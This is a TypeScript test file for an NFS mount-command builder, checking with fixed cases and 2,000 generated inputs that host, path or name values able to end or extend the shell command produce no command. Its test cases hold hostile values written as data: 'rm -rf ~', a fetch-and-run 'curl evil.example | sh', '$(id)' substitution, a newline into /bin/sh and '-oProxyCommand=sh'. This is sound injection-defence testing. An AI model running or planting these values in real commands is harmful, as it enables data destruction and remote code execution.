/**
 * The NFS mount command is built from what the API says (a host, a path, the share's name): it is
 * copied for the user to paste into a shell, so a value that could end the command or start
 * another one must give no command at all. Checked on hostile examples and 2,000 generated ones.
 */
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { nfsMountCommand } from '../../src/api/resources/nfsShare';

describe('NFS mount command', () => {
  it('mounts a plain host and path under /mnt/<name>', () => {
    assert.equal(
      nfsMountCommand({ host: '10.110.0.50', mount_path: '/2633050/shared-data', name: 'shared-data' }),
      'sudo mkdir -p /mnt/shared-data && sudo mount -t nfs4 -o nconnect=16 10.110.0.50:/2633050/shared-data /mnt/shared-data',
    );
  });

  it('gives no command for a host, path or name that could end or extend it', () => {
    for (const [host, path, name] of [
      ['10.0.0.1; rm -rf ~', '/data', 'x'],
      ['10.0.0.1', '/data && curl evil.example | sh', 'x'],
      ['10.0.0.1', '/data$(id)', 'x'],
      ['10.0.0.1', 'data', 'x'],
      ['10.0.0.1', '/data\n/bin/sh', 'x'],
      ['10.0.0.1', '/data', 'x y'],
      ['-oProxyCommand=sh', '/data', 'x'],
      ['-ohelper', '/data', 'x'],
      [undefined, '/data', 'x'],
    ] as const) {
      assert.equal(nfsMountCommand({ host: host as string | undefined, mount_path: path, name }), undefined, `${host} ${path} ${name}`);
    }
  });

  it('never lets a shell metacharacter or a line break through, whatever the API sends', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.string(), (host, path, name) => {
        const command = nfsMountCommand({ host, mount_path: `/${path}`, name });
        if (command === undefined) return true;
        return !/[;&|`$()<>\\\n\r'"*?!{}[\] ]/.test(command.replace(/ && /, '').replace(/ /g, ''));
      }),
      { numRuns: 2_000 },
    );
  });
});
